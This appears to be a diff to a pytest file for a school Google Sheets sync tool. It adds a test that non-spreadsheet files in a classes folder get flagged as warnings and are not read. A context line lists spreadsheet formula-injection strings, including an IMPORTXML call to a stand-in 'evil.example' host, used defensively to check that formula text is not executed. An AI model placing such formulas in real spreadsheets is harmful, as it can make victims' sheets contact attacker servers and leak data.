@@ -8,9 +8,12 @@ import pytest
 from functions.changes import changed_workbooks
 from sync.google import batch
 from sync.google.store import GoogleStore
+from sync.job import run_sync
 from sync.store import Tab, WorkbookRef
 from tests.google_standin import SERVICE_ACCOUNT, TEACHER
 from tests.fakes import SimClock
+from tests.integration.google_school import serve
+from tests.year_school import make_school
 
 HOSTILE = ['=IMPORTXML("http://evil.example","//a")', "+1", "@SUM(1)"]
 
@@ -48,6 +51,37 @@ def test_the_classes_folder_lists_only_live_spreadsheets(google, school):
     assert sorted(ref.name for ref in refs) == ["Year 3 Oak", "Year 4 Ash"]
     assert all(ref.modified_by == TEACHER and ref.modified for ref in refs)
     assert google.count("read") == 1
+
+
+def test_a_file_in_the_classes_folder_that_is_not_a_google_sheet_is_named_not_read(google, school, tmp_path):
+    """Local mode names a file in classes/ that is not a workbook; on Drive the same happens to an
+    Excel file uploaded without converting (a class that would vanish silently), a PDF and a
+    shortcut. A subfolder is not a file and is passed over."""
+    store, _, _ = school
+    classes = store.classes_folder
+    google.create_file("2026-27 Elm (Year 5).xlsx",
+                       "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK", parents=[classes])
+    google.create_file("Letter home.pdf", "application/pdf", b"%PDF", parents=[classes])
+    google.create_file("Year 6 Yew", "application/vnd.google-apps.shortcut", parents=[classes])
+    google.create_folder("Old", parents=[classes])
+    refs = store.list_class_workbooks()
+    assert sorted(ref.name for ref in refs) == ["Year 3 Oak", "Year 4 Ash"]
+    assert google.count("read") == 1
+    found = {row["workbook"]: (row["found"], row["expected"], row["severity"]) for row in store.listing_problems}
+    assert set(found) == {"2026-27 Elm (Year 5).xlsx", "Letter home.pdf", "Year 6 Yew"}
+    assert found["2026-27 Elm (Year 5).xlsx"][0] == "an Excel workbook uploaded to Drive, not a Google Sheet, so not read"
+    assert "File > Save as Google Sheets" in found["2026-27 Elm (Year 5).xlsx"][1]
+    assert "shortcut" in found["Year 6 Yew"][0]
+    assert {severity for *_, severity in found.values()} == {"warning"}
+    store.list_class_workbooks()                       # a second listing does not say it twice
+    assert len(store.listing_problems) == 3
+
+    summary_id = serve(google, make_school(tmp_path / "school"))
+    settings = {row[0]: row[1] for row in google.read_spreadsheet(summary_id)["Settings"] if len(row) > 1}
+    google.create_file("Letter home.pdf", "application/pdf", b"%PDF", parents=[settings["Classes folder"]])
+    assert run_sync(GoogleStore(summary_id)).outcome == "complete"
+    problems = google.read_spreadsheet(summary_id)["Problems"]
+    assert [row for row in problems if row and row[0] == "Letter home.pdf"][0][3] == "a file that is not a class workbook"
 
 
 def test_a_write_is_one_batch_update_and_formula_text_stays_text(google, school):
